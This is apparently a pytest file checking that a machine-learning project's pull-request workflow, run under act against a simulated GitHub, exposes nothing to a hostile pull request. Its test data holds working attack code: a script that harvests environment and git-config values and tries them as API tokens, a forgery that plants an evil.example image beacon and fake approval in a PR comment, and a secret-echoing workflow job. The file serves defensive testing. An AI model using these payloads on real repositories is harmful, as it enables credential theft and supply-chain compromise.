"""Pull requests, run by act: what they show to their authors, and what hostile ones reach."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from azure_project import configure, make_small, shrink
from doubles.github import Environment, GitHub, running_github
from doubles.terraform.client import Terraform
from landing_zone import OTHERS_ON_GITHUB, name_of
from rendering import Render
from variants.findings import Answers
from workflows.repository import Repository
from workflows.terraform import pin_terraform

HOOK = "https://hooks.example.com/of-the-team"
GREEN = {"Check": "success", "Model": "success", "Comment": "success"}
# Looks for anything that has a right, and tries it: to comment, to log in, to see a secret.
THEFT = r"""
import json, os, subprocess, urllib.request
api = os.environ["GITHUB_API_URL"] + "/repos/" + os.environ["GITHUB_REPOSITORY"]
git = subprocess.run(["git", "config", "--list"], capture_output=True, text=True).stdout
found, values = [], {*os.environ.values(), *git.replace("=", "\n").split("\n")}
for value in values:
    for path, body in (("/issues/7/comments", {"body": "owned"}), ("/actions/workflows/train.yml/dispatches", {})):
        headers = {"Authorization": f"Bearer {value.strip()[:200]}"}
        try:
            urllib.request.urlopen(urllib.request.Request(api + path, json.dumps(body).encode(), headers))
            found.append("STOLEN " + path)
        except (OSError, ValueError):
            pass
found += [f"LOGIN {any(name.startswith('ACTIONS_ID_TOKEN') for name in os.environ)}", *values]
with open(os.environ["GITHUB_STEP_SUMMARY"], "a") as summary:
    summary.write(" ".join(found) + "\n")
"""

# Writes what it likes into the evaluation, of which the comment is made.
FORGERY = r"""
import atexit, json, pathlib
def forge():
    file = pathlib.Path("outputs/evaluation/evaluation.json")
    if file.exists():
        content = json.loads(file.read_text())
        text = "<img src=https://evil.example/p.png> @org/security agrees\n\n# Approved\n[merge](https://evil.example)"
        content["decision"]["reasons"] = [{"code": "better", "text": text}]
        file.write_text(json.dumps(content))
atexit.register(forge)
"""
# A job of its own, with every right that a workflow file can ask for.
THIEF = """
  theft:
    name: Theft
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    environment: production
    permissions:
      contents: write
      pull-requests: write
      id-token: write
    steps:
      - name: Steal
        run: echo "client ${{ vars.AZURE_CLIENT_ID }} $HOOK"; env
        env:
          HOOK: ${{ secrets.MLOPS_WEBHOOK }}
"""


@pytest.fixture
def repository(
    render: Render, terraform: Terraform, project_python: Path, tmp_path: Path
) -> Iterator[tuple[Repository, GitHub]]:
    with running_github(tmp_path) as github:
        yield made(render({}), github, terraform, project_python, tmp_path), github


def made(project: Path, github: GitHub, terraform: Terraform, python: Path, folder: Path) -> Repository:
    """Put a small project on GitHub, with the environments and the secret that its releases use."""
    for name in ("staging", "production"):
        variables, secrets = {"AZURE_CLIENT_ID": "of-production"}, {"MLOPS_WEBHOOK": HOOK}
        github.environments[name] = Environment(("carol",), variables=variables, secrets=secrets)
    repository = Repository(folder / "github", github, python)
    repository.push(project)
    shrink(repository.work)
    configure(repository.work, make_small)
    program = pin_terraform(repository.work, terraform, folder / "pinned")
    repository.network = {name: value for name, value in program.items() if name != "TF_DATA_DIR"}
    repository.commit()
    return repository


def take_notes(project: Path) -> None:
    (project / "notes.md").write_text("# Notes\n", encoding="utf-8")


def improve(project: Path) -> None:
    """Use a better estimator."""
    settings = project / "project.yml"
    content = yaml.safe_load(settings.read_text(encoding="utf-8"))
    content["model"] = {"estimator": "random_forest", "params": {"n_estimators": 20}}
    settings.write_text(yaml.safe_dump(content), encoding="utf-8")


def test_a_pull_request_is_compared_with_its_target(repository: tuple[Repository, GitHub]) -> None:
    project, github = repository
    run = project.run("pull-request.yml", project.pull_request(take_notes))
    assert run.code == 0, run.log
    assert run.jobs == GREEN
    [comment] = github.comments
    assert "| Metric | Challenger | Champion |" in comment["body"]
    assert "### This pull request's model scores the same as the target branch's" in comment["body"]
    assert {call.job for call in github.calls if call.job} == {"pull-request.yml:comment"}


@pytest.mark.exhaustive
def test_the_comment_is_updated_by_the_next_push(repository: tuple[Repository, GitHub]) -> None:
    project, github = repository
    project.run("pull-request.yml", project.pull_request(lambda work: (work / "notes.md").write_text("# Notes\n")))
    [comment] = github.comments
    before = dict(comment)
    run = project.run("pull-request.yml", project.pull_request(improve))
    assert run.jobs["Check"] == run.jobs["Comment"] == "success", run.log
    [updated] = github.comments
    assert updated["id"] == before["id"]
    assert updated["body"] != before["body"]
    assert len(set(figures(updated["body"]))) == 2
    refused = "❌" in run.summary
    assert run.jobs["Model"] == ("failure" if refused else "success"), run.log


def figures(comment: str) -> list[str]:
    """Return the decisive metric of challenger and champion."""
    found = re.search(r"\(decides\) \| ([\d.]+) \| ([\d.]+) \|", comment)
    assert found, comment
    return list(found.groups())


@pytest.mark.parametrize("from_fork", [True, pytest.param(False, marks=pytest.mark.exhaustive)], ids=["fork", "branch"])
def test_a_hostile_pull_request_reaches_nothing(repository: tuple[Repository, GitHub], from_fork: bool) -> None:
    project, github = repository
    run = project.run("pull-request.yml", project.pull_request(attack, from_fork))
    assert run.summary.count("LOGIN False") >= 2, run.log  # the attack ran in both jobs
    for prize in ("LOGIN True", "STOLEN", HOOK, "of-production"):
        assert prize not in run.summary + run.log
    assert run.jobs["Theft"] == "failure"
    assert "Theft: Steal" not in run.ended("success")
    written = [call for call in github.calls if call.method != "GET" and call.status < 300 and call.job]
    assert [call.job for call in written] == ([] if from_fork else ["pull-request.yml:comment"])
    for comment in github.comments:
        assert "evil&#46;example" in comment["body"]  # what it says of itself is shown, and is nothing but text
        assert not any(
            markup in comment["body"] for markup in ("<img", "@org", "\n# Approved", "](https://evil", "owned")
        )


def attack(work: Path) -> None:
    """Change all that a pull request can: the code that the jobs run, the checks, and the workflow itself."""
    for file in (work / "src" / "credit_risk" / "model.py", work / "tests" / "conftest.py"):
        file.write_text(file.read_text(encoding="utf-8") + THEFT, encoding="utf-8")
    model = work / "src" / "credit_risk" / "model.py"
    model.write_text(model.read_text(encoding="utf-8") + FORGERY, encoding="utf-8")
    requirements = work / "requirements.txt"
    requirements.write_text("evil-package==1.0\n" + requirements.read_text(encoding="utf-8"), encoding="utf-8")
    settings = work / "pyproject.toml"
    text = settings.read_text(encoding="utf-8")
    text = text.replace("line-length = 100", 'exclude = ["*"]').replace(
        'files = ["src"]', 'files = ["src/mlops/errors.py"]'
    )
    settings.write_text(text, encoding="utf-8")
    workflow = work / ".github" / "workflows" / "pull-request.yml"
    workflow.write_text(workflow.read_text(encoding="utf-8") + THIEF, encoding="utf-8")


@pytest.mark.exhaustive
@pytest.mark.parametrize("variant", OTHERS_ON_GITHUB, ids=name_of)
def test_every_landing_zone_is_checked(
    variant: Answers, render: Render, terraform: Terraform, project_python: Path, tmp_path: Path
) -> None:
    with running_github(tmp_path) as github:
        project = made(render(variant), github, terraform, project_python, tmp_path)
        run = project.run("pull-request.yml", project.pull_request(take_notes))
    assert run.code == 0, run.log
    assert run.jobs == GREEN
